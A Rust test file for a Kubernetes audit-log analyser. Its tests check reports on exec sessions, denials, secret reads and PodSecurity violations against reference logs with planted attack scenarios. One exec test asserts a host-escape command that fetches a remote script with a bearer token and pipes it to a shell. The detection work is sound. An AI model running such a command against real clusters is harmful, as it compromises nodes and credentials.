//! The reports over the shared reference logs: the synthetic `mini.jsonl` with
//! its planted scenarios (`ground-truth.json`), the Falco trace files and
//! audit2rbac's demo log.
//!
//! The reference data lives outside the repository: `$KENSA_REFERENCE`, else
//! `../shared/reference` beside the workspace. Without it the tests say they
//! skip, except under `CI=true`, where they fail.

use std::path::PathBuf;

use kensa_audit::event::Event;
use kensa_audit::report::Aggregate;
use kensa_audit::report::authz::{Authz, Denial, denial};
use kensa_audit::report::exec::Exec;
use kensa_audit::report::pss::{Pss, PssMode};
use kensa_audit::report::secrets::Secrets;
use kensa_audit::report::summary::Summary;

fn audit_dir() -> Option<PathBuf> {
    kensa_reference::dir("audit", "samples/synthetic/mini.jsonl")
}

fn read(path: PathBuf) -> Vec<u8> {
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The lines of a JSON-lines log that are events.
fn lines(bytes: &[u8]) -> Vec<&[u8]> {
    bytes
        .split(|b| *b == b'\n')
        .map(|line| line.strip_suffix(b"\r").unwrap_or(line))
        .filter(|line| Event::from_json(line).is_ok_and(|e| e.looks_like_event()))
        .collect()
}

/// Runs an aggregator over the lines in `chunks` pieces and merges them, the
/// way the reader does on several cores.
fn run<A: Aggregate>(template: A, lines: &[&[u8]], chunks: usize) -> A {
    let size = lines.len().div_ceil(chunks.max(1)).max(1);
    let mut parts = lines.chunks(size).map(|chunk| {
        let mut part = template.fresh();
        for line in chunk {
            let event = Event::from_json(line).expect("checked by lines()");
            part.add(&event, line);
        }
        part
    });
    let mut whole = parts.next().unwrap_or_else(|| template.fresh());
    for part in parts {
        whole.merge(part);
    }
    whole
}

fn mini() -> Option<Vec<u8>> {
    Some(read(audit_dir()?.join("samples/synthetic/mini.jsonl")))
}

#[test]
fn summary_of_mini() {
    let Some(bytes) = mini() else { return };
    let lines = lines(&bytes);
    let report = run(Summary::default(), &lines, 1).finish();
    assert_eq!(report.events, 484);
    assert_eq!(report.requests, 469);
    assert_eq!(
        report.bytes,
        lines.iter().map(|l| l.len() as u64).sum::<u64>()
    );
    assert_eq!(report.bytes, 484_418);
    assert_eq!(
        report.first_time.as_deref(),
        Some("2025-03-14T08:51:07.000022Z")
    );
    assert_eq!(
        report.last_time.as_deref(),
        Some("2025-03-14T09:17:57.250400Z")
    );
    let stages: Vec<(&str, u64)> = report
        .by_stage
        .iter()
        .map(|c| (c.key.as_str(), c.count))
        .collect();
    assert_eq!(
        stages,
        [
            ("RequestReceived", 6),
            ("ResponseStarted", 9),
            ("ResponseComplete", 469)
        ]
    );
    assert_eq!(report.top_users.len(), 10);
    assert_eq!(report.top_users[0].count, 120);
    let codes: Vec<(&str, u64)> = report
        .top_error_codes
        .iter()
        .map(|c| (c.key.as_str(), c.count))
        .collect();
    assert_eq!(codes, [("403", 7), ("401", 4)]);
    assert!(
        report
            .top_source_ips
            .iter()
            .any(|c| c.key == "203.0.113.45")
    );
    assert!(report.top_user_agents.iter().any(|c| c.key == "curl/8.5.0"));
    // Split over cores or not, the same report.
    for chunks in [2, 3, 7, 64] {
        assert_eq!(
            run(Summary::default(), &lines, chunks).finish(),
            report,
            "{chunks} chunks"
        );
    }
    let json = serde_json::to_value(&report).unwrap();
    assert!(json.get("topUsersByBytes").is_some() && json.get("firstTime").is_some());
}

#[test]
fn exec_sessions_in_mini() {
    let Some(bytes) = mini() else { return };
    let lines = lines(&bytes);
    let report = run(Exec::new(), &lines, 1).finish();
    assert_eq!(run(Exec::new(), &lines, 5).finish(), report);
    let ids: Vec<&str> = report
        .sessions
        .iter()
        .map(|s| s.audit_id.as_str())
        .collect();
    assert_eq!(
        ids,
        [
            "805755e1-3afa-4907-b81c-27bac3633123",
            "b289230e-8a3a-403d-83ad-d6d50cfa6c9f",
            "59fe1b75-9709-4733-bca1-2f950c7e8442"
        ],
        "one row per request, in time order"
    );
    let alice = &report.sessions[0];
    assert_eq!(alice.user, "oidc:alice@example.com");
    assert_eq!(
        (alice.kind.as_str(), alice.transport.as_str()),
        ("exec", "spdy")
    );
    assert_eq!(
        (alice.namespace.as_str(), alice.pod.as_str()),
        ("payments", "checkout-6d8f7b9c4-7wq2n")
    );
    assert_eq!(alice.container.as_deref(), Some("checkout"));
    assert_eq!(alice.command, "sh");
    assert!(alice.tty && alice.stdin);
    assert_eq!(alice.code, Some(101));

    // The WebSocket exec (verb get) whose command carries a bearer token.
    let attack = &report.sessions[1];
    assert_eq!(attack.user, "system:serviceaccount:ci:deployer");
    assert_eq!(attack.transport, "websocket");
    assert_eq!(attack.pod, "kube-proxy-x7k2p");
    assert_eq!(attack.container.as_deref(), Some("app"));
    assert!(!attack.tty && !attack.stdin);
    assert_eq!(
        attack.command,
        r#"sh -c chroot /host sh -c 'curl -s -H "Authorization: Bearer [REDACTED]" http://198.51.100.7/x | sh'"#
    );
    assert!(!attack.args.concat().contains("eyJ"));

    let forward = &report.sessions[2];
    assert_eq!(forward.kind, "portforward");
    assert_eq!(forward.user, "system:serviceaccount:kube-system:default");
    assert_eq!(forward.pod, "postgres-0");
    assert!(forward.command.is_empty() && forward.ports.is_empty());
    assert_eq!(forward.code, Some(101));
}

#[test]
fn exec_and_attach_in_falco_traces() {
    let Some(dir) = audit_dir() else { return };
    let dir = dir.join("samples/falco_trace_files");
    let exec = read(dir.join("exec_pod.json"));
    let attach = read(dir.join("attach_pod.json"));
    let mut all = lines(&exec);
    all.extend(lines(&attach));
    let report = run(Exec::new(), &all, 1).finish();
    assert_eq!(report.sessions.len(), 2);
    let exec = report.sessions.iter().find(|s| s.kind == "exec").unwrap();
    assert_eq!(exec.command, "bash");
    assert_eq!(exec.container.as_deref(), Some("nginx1"));
    assert_eq!(
        exec.code,
        Some(101),
        "ResponseStarted is all these traces have"
    );
    let attach = report.sessions.iter().find(|s| s.kind == "attach").unwrap();
    assert!(attach.stdin && !attach.tty);
}

#[test]
fn denials_in_mini() {
    let Some(bytes) = mini() else { return };
    let lines = lines(&bytes);
    let report = run(Authz::default(), &lines, 1).finish();
    assert_eq!(run(Authz::default(), &lines, 4).finish(), report);
    assert_eq!(
        (
            report.requests,
            report.authz,
            report.admission,
            report.unauthenticated
        ),
        (11, 6, 1, 4)
    );
    // The forbidden burst of the stolen web/frontend token, from outside.
    let frontend = &report.users[0];
    assert_eq!(frontend.user, "system:serviceaccount:web:frontend");
    assert_eq!((frontend.requests, frontend.authz), (6, 6));
    assert_eq!(frontend.verbs, ["list"]);
    assert_eq!(
        frontend.resources,
        ["clusterrolebindings", "nodes", "pods", "secrets"]
    );
    assert_eq!(frontend.namespaces, ["kube-system", "payments"]);
    assert_eq!(frontend.source_ips, ["203.0.113.45"]);
    assert_eq!(frontend.top_denied[0].resource, "secrets");
    assert_eq!(frontend.top_denied[0].count, 3);
    // The revoked token: 401s without a user.
    let unauthenticated = report.users.iter().find(|u| u.user.is_empty()).unwrap();
    assert_eq!(unauthenticated.unauthenticated, 4);
    // The PodSecurity rejection: authorized, then denied by admission.
    let deployer = report
        .users
        .iter()
        .find(|u| u.user == "system:serviceaccount:ci:deployer")
        .unwrap();
    assert_eq!((deployer.admission, deployer.authz), (1, 0));
    // The 401s tried one secret four times; the burst listed secrets three times.
    let top: Vec<(&str, &str, u64)> = report
        .top_denied
        .iter()
        .take(2)
        .map(|p| (p.verb.as_str(), p.resource.as_str(), p.count))
        .collect();
    assert_eq!(top, [("get", "secrets", 4), ("list", "secrets", 3)]);
}

#[test]
fn denials_in_audit2rbac_demo_are_by_impersonated_user() {
    let Some(dir) = audit_dir() else { return };
    let bytes = read(dir.join("samples/audit2rbac/demo.log"));
    let lines = lines(&bytes);
    for line in &lines {
        let event = Event::from_json(line).unwrap();
        if event.code() == Some(403) {
            // No decision annotation in this log: the message decides.
            assert_eq!(denial(&event), Some(Denial::Authz));
        }
    }
    let report = run(Authz::default(), &lines, 3).finish();
    assert_eq!(report.authz, 11);
    let users: Vec<(&str, u64)> = report
        .users
        .iter()
        .map(|u| (u.user.as_str(), u.requests))
        .collect();
    assert_eq!(
        users,
        [
            ("bob", 4),
            ("system:serviceaccount:ns1:sa1", 4),
            ("alice", 3)
        ]
    );
    assert!(
        report
            .users
            .iter()
            .all(|u| u.impersonated_by == ["system:admin"])
    );
}

#[test]
fn secret_reads_in_mini() {
    let Some(bytes) = mini() else { return };
    let lines = lines(&bytes);
    let report = run(Secrets::new(), &lines, 1).finish();
    assert_eq!(run(Secrets::new(), &lines, 6).finish(), report);
    let rows: Vec<(&str, &str, &str, &str, u64)> = report
        .reads
        .iter()
        .map(|r| {
            (
                r.user.as_str(),
                r.verb.as_str(),
                r.namespace.as_str(),
                r.name.as_str(),
                r.count,
            )
        })
        .collect();
    let frontend = "system:serviceaccount:web:frontend";
    let deployer = "system:serviceaccount:ci:deployer";
    let cert_manager = "system:serviceaccount:cert-manager:cert-manager";
    assert_eq!(
        rows,
        [
            ("", "get", "kube-system", "bootstrap-token-abcdef", 4),
            (cert_manager, "get", "kube-system", "worker-bd5fa", 1),
            (cert_manager, "get", "payments", "frontend-1c13b", 1),
            (cert_manager, "get", "web", "grafana-47dd0", 1),
            (deployer, "list", "", "*", 1),
            (frontend, "list", "", "*", 1),
            (frontend, "list", "kube-system", "*", 1),
            (frontend, "list", "payments", "*", 1),
            (frontend, "get", "web", "ci-deployer-token", 1),
            (frontend, "get", "web", "db-credentials", 1),
            (frontend, "get", "web", "frontend-tls", 1),
        ]
    );
    // The planted cluster-wide list by ci/deployer succeeded; frontend's was denied.
    let cluster_wide: Vec<(&str, bool)> = report
        .reads
        .iter()
        .filter(|r| r.all_namespaces)
        .map(|r| (r.user.as_str(), r.succeeded()))
        .collect();
    assert_eq!(cluster_wide, [(deployer, true), (frontend, false)]);
    assert!(report.reads[0].anonymous);
    assert!(report.reads.iter().all(|r| !r.not_a_service_account));
    assert_eq!(report.flagged().count(), 3);
}

#[test]
fn podsecurity_denial_in_mini() {
    let Some(bytes) = mini() else { return };
    let lines = lines(&bytes);
    let report = run(Pss::new(), &lines, 1).finish();
    assert_eq!(run(Pss::new(), &lines, 8).finish(), report);
    assert_eq!((report.audit, report.enforce), (0, 1));
    let denied = &report.objects[0];
    assert_eq!(denied.mode, PssMode::Enforce);
    assert_eq!(
        (denied.namespace.as_str(), denied.object.as_str()),
        ("web", "kube-proxy-x7k2p")
    );
    assert_eq!(denied.level_version, "baseline:latest");
    assert_eq!(denied.users, ["system:serviceaccount:ci:deployer"]);
    let violations: Vec<(&str, Option<&str>)> = denied
        .violations
        .iter()
        .map(|v| (v.reason.as_str(), v.detail.as_deref()))
        .collect();
    assert_eq!(
        violations,
        [
            ("host namespaces", Some("hostNetwork=true, hostPID=true")),
            (
                "privileged",
                Some(r#"container "app" must not set securityContext.privileged=true"#)
            ),
            ("hostPath volumes", Some(r#"volume "host""#)),
        ]
    );
    let checks: Vec<&str> = report.checks.iter().map(|c| c.reason.as_str()).collect();
    assert_eq!(
        checks,
        ["host namespaces", "hostPath volumes", "privileged"]
    );
}

/// The audit-mode violations are planted in the full logs only (3 requests,
/// two of them in the gzipped files). Reading gzip is the reader's job, so
/// this test borrows `gzip -dc` and skips when it is not there.
#[test]
fn podsecurity_audit_violations_in_the_full_logs() {
    let Some(dir) = audit_dir() else { return };
    let synthetic = dir.join("samples/synthetic");
    let mut logs = vec![read(synthetic.join("cp-1/audit.log"))];
    for gz in [
        "cp-1/audit-2025-03-14T09-00-00.512.log.gz",
        "cp-2/audit.log.gz",
        "cp-3/audit.log.gz",
    ] {
        match std::process::Command::new("gzip")
            .arg("-dc")
            .arg(synthetic.join(gz))
            .output()
        {
            Ok(out) if out.status.success() => logs.push(out.stdout),
            _ => {
                eprintln!("SKIP: gzip -dc is not available to read {gz}");
                return;
            }
        }
    }
    let all: Vec<&[u8]> = logs.iter().flat_map(|log| lines(log)).collect();
    assert_eq!(all.len(), 4660 + 3097 + 7783 + 6280);
    let report = run(Pss::new(), &all, 16).finish();
    assert_eq!((report.audit, report.enforce), (3, 1));
    let web = &report.namespaces[0];
    assert_eq!(web.namespace, "web");
    assert_eq!((web.audit, web.enforce, web.objects), (3, 1, 4));
    let audited: Vec<&str> = report
        .objects
        .iter()
        .filter(|o| o.mode == PssMode::Audit)
        .map(|o| o.object.as_str())
        .collect();
    assert_eq!(audited.len(), 3);
    assert!(
        audited
            .iter()
            .all(|name| name.starts_with("frontend-5b7d9c8f6-"))
    );
    let restricted: Vec<(&str, u64)> = report
        .checks
        .iter()
        .filter(|c| c.audit > 0)
        .map(|c| (c.reason.as_str(), c.audit))
        .collect();
    assert_eq!(
        restricted,
        [
            ("allowPrivilegeEscalation != false", 3),
            ("runAsNonRoot != true", 3),
            ("seccompProfile", 3),
            ("unrestricted capabilities", 3),
        ]
    );
    let summary = run(Summary::default(), &all, 16).finish();
    eprintln!(
        "full logs: {} events, {} requests, {} bytes, {} to {}",
        summary.events,
        summary.requests,
        summary.bytes,
        summary.first_time.unwrap_or_default(),
        summary.last_time.unwrap_or_default()
    );
}
